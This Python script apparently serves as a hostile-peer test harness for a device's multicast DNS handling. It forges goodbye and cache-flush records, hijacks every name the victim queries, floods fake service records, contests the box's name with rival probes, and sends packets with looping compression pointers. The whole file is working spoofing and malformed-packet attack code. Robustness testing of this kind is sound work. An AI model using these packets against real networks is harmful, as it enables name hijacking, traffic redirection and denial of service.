# Somebody in the network who attacks the box, and knows how multicast DNS works: hostile.py OWN_ADDRESS VICTIM WHAT
# says WHAT, as often as it takes, and tells in JSON, once a second, how many names the victim has asked for so far.
#
#   goodbye   that the box is gone, in the box's own words
#   flush     once, that the name leads here, for as long as can be said, and that all else is to be forgotten
#   loops     messages whose names lead back to themselves
#   names     that every name for which the box asks is ours
#   services  the same of its services' names, of twenty each time
#   rivalry   once, that the name leads here, and whenever the box asks for it, that we ask as well, with the greater data
import json
import select
import socket
import struct
import sys
import time

address, victim, what = sys.argv[1:]
GROUP = ("224.0.0.251", 5353)
FOR_EVER = 2**32 - 1
A, PTR, SRV, ANY = 1, 12, 33, 255
IN, FLUSH = 1, 0x8001

link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
link.bind(("", 5353))
link.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP[0]) + socket.inet_aton(address))
link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, ttl, data, kind_of_class=FLUSH):
    return owner + struct.pack("!HHIH", kind, kind_of_class, ttl, len(data)) + data


def message(*records, flags=0x8400, questions=0, answers=None, authorities=0):
    answers = len(records) - questions - authorities if answers is None else answers
    return struct.pack("!6H", 0, flags, questions, answers, authorities, 0) + b"".join(records)


def say(packet):
    link.sendto(packet, GROUP)


def asked(packet):
    """The names for which a message asks, as their labels. The box compresses the end of each but the first."""
    def labels(at):
        found = []
        while packet[at]:
            if packet[at] >= 0xC0:
                return found + labels((packet[at] & 0x3F) << 8 | packet[at + 1])[0], at + 2
            found.append(packet[at + 1 : at + 1 + packet[at]])
            at += 1 + packet[at]
        return found, at + 1

    at = 12
    for _ in range(struct.unpack_from("!H", packet, 4)[0]):
        question, at = labels(at)
        yield tuple(question), struct.unpack_from("!H", packet, at)[0]
        at += 4


BOX = name(b"wizyjno", b"local")
OURS = socket.inet_aton(address)
SOMEWHERE_ELSE = struct.pack("!3H", 0, 0, 1) + name(b"else", b"local")


def loops():
    to_itself = b"\xc0\x0c"
    there_and_back = b"\x01a\xc0\x10\xc0\x0c"
    forward = b"\xc0\xff"
    chain = b"".join(struct.pack("!H", 0xC000 | at) for at in range(14, 1400, 2)) + b"\xc0\x0c"
    for owner in (to_itself, there_and_back, forward, chain, b"\x07wizyjno\xc0\x0c"):
        for body in (
            owner + struct.pack("!HH", ANY, IN),
            record(BOX, A, 120, OURS),
            record(owner, A, 120, OURS),
            record(BOX, PTR, 120, owner),
            record(name(b"_https", b"_tcp", b"local"), PTR, FOR_EVER, owner),
        ):
            for counts in ((1, 0), (0, 1), (1, 1)):
                # What concerns the box is read whole.
                yield struct.pack("!6H", 0, 0x8400 if counts[1] else 0, *counts, 0, 1) + body + owner + b"\x07wizyjno"


if what in ("flush", "rivalry"):
    say(message(record(BOX, A, FOR_EVER, OURS)))
seen = []
told = time.monotonic()
while True:
    heard, _, _ = select.select([link], [], [], 0.1)
    if heard:
        packet, (sender, _) = link.recvfrom(9000)
        asking = sender == victim and not packet[2] & 0x80
        for labels, kind in asked(packet) if asking else ():
            host = len(labels) == 2 and kind == A
            if host:
                seen.append(labels[0].decode())
            if what == "names" and host:
                say(message(record(name(*labels), A, 120, OURS)))
            elif what == "services" and kind == PTR:
                ours = [name(b"wizyjno" + (b" (%d)" % n if n > 1 else b""), *labels) for n in range(1, 21)]
                say(message(*(record(name(*labels), PTR, 120, each, IN) for each in ours)))
                say(message(*(record(each, SRV, 120, SOMEWHERE_ELSE) for each in ours)))
            elif what == "rivalry" and host:
                rival = record(name(*labels), A, 120, b"\xff\xff\xff\xfe", IN)
                say(message(name(*labels) + struct.pack("!HH", ANY, IN), rival, flags=0, questions=1, authorities=1))
    elif what == "goodbye":
        say(message(record(BOX, A, 0, socket.inet_aton(victim))))
    elif what == "loops":
        for packet in loops():
            say(packet)
    elif what == "names" and not seen:
        say(message(record(BOX, A, 120, OURS)))
    elif what == "services" and not seen:
        say(message(record(name(b"wizyjno", b"_https", b"_tcp", b"local"), SRV, 120, SOMEWHERE_ELSE)))
    if time.monotonic() - told > 1:
        told = time.monotonic()
        print(json.dumps({"asked": len(seen), "names": sorted(set(seen))}), flush=True)
